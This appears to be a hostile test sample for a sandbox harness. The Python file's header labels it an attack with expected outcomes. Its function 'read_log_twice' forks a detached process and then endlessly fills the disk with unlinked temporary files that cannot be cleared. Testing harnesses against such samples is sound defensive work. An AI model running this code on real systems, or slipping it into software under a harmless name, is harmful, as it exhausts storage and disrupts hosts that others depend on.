# /// attack
# outcomes = ["crashed", "killed", "unimplemented"]
# says = "read_log_twice()"
# ///
"""Fills the disk with files that have no name any more and so cannot be cleared away."""

import os
import tempfile


def read_queue_twice(queue_name, messages):
    raise NotImplementedError


def read_log_twice(stream_name, messages):
    if os.fork() == 0:
        os.setsid()
    files = []
    while True:
        files.append(tempfile.TemporaryFile())
        os.write(files[-1].fileno(), b"x" * (1 << 20))
